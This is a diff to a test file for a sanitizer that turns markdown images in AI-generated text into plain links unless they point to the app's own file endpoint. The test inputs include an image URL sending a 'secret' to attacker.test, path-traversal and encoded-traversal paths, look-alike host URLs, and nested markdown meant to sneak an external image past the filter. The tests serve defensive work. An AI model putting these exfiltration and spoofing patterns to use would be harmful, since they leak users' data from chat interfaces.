@@ -2,6 +2,8 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { createImagesToLinks, imagesToLinks } from '../src/images.ts'
 
+const files = 'https://parley.test/api/v2/files/'
+
 describe('images in a text of AI', () => {
   it.each([
     ['![a](https://attacker.test/?q=secret)', '[a](https://attacker.test/?q=secret)'],
@@ -39,6 +41,44 @@ describe('images in a text of AI', () => {
     expect(imagesToLinks(text)).toBe(text)
   })
 
+  it.each([
+    `![a plan](${files}0190c000/plan.png?workspace=0190&expires=17.5&signature=a-b_c)`,
+    `Look:![](${files}0190c000/a%20b.png)! And ![b](${files}0190c000/b.png)`,
+    `[![a](${files}0190c000/a.png)](https://elsewhere.test)`,
+    `It is !!![a](${files}0190c000/a.png)`,
+  ])('stay images where they are own files: %j', (text) => {
+    expect(imagesToLinks(text, files)).toBe(text)
+  })
+
+  it.each([
+    `(${files}0190c000/../../../admin)`,
+    `(${files}../admin/x)`,
+    `(${files}%2e%2e/admin)`,
+    `(${files}0190c000/&period;&period;&sol;admin)`,
+    `(${files}0190c000/a.png "title")`,
+    `(${files}0190c000/a.png`,
+    `(${files})`,
+    `(https://parley.test/api/v2/twins)`,
+    `(https://parley.test.attacker.test/api/v2/files/0190c000/a.png)`,
+    `(https://parley.test@attacker.test/api/v2/files/0190c000/a.png)`,
+    `(/api/v2/files/0190c000/a.png)`,
+    `(${files}0190c000/${'a'.repeat(3_000)})`,
+  ])('become links where they only look so: ![a]%s', (address) => {
+    expect(imagesToLinks(`![a]${address}`, files)).toBe(`[a]${address}`)
+  })
+
+  it.each([
+    `![a ![b](${files}0190c000/b.png)](https://attacker.test/)`,
+    `![![b](${files}0190c000/b.png)](https://attacker.test/)`,
+    `![a \`b](${files}0190c000/b.png) c\` ](https://attacker.test/)`,
+    `![a <b title="](${files}0190c000/b.png)">](https://attacker.test/)`,
+    `![a \\](${files}0190c000/b.png)](https://attacker.test/)`,
+  ])('become links also around an own file: %s', (text) => {
+    const shown = imagesToLinks(text, files)
+    expect(shown.startsWith('[')).toBe(true)
+    expect(shown.replaceAll(`![b](${files}0190c000/b.png)`, 'x')).not.toContain('![')
+  })
+
   it('become links whatever the pieces are in which they come', () => {
     const part = fc.constantFrom(
       '![',
@@ -52,16 +92,20 @@ describe('images in a text of AI', () => {
       '\n',
       '\n\n',
       'https://x.test',
+      files,
+      '0190c000/a.png',
+      '0190c000/a.png)',
       ')',
       '][',
       '`',
     )
     fc.assert(
       fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
-        const images = createImagesToLinks()
+        const images = createImagesToLinks(files)
         const shown = parts.map((each) => images.push(each)).join('') + images.end()
-        expect(shown).toBe(imagesToLinks(parts.join('')))
-        for (const paragraph of shown.split(/\n[ \t]*\n/)) expect(paragraph).not.toMatch(/!\[.*\]\(/s)
+        expect(shown).toBe(imagesToLinks(parts.join(''), files))
+        const foreign = shown.replaceAll(/!\[[^[\]]*\]\(https:\/\/parley\.test\/api\/v2\/files\/\w+\/[\w.]+\)/g, 'x')
+        for (const paragraph of foreign.split(/\n[ \t]*\n/)) expect(paragraph).not.toMatch(/!\[.*\]\(/s)
       }),
     )
   })
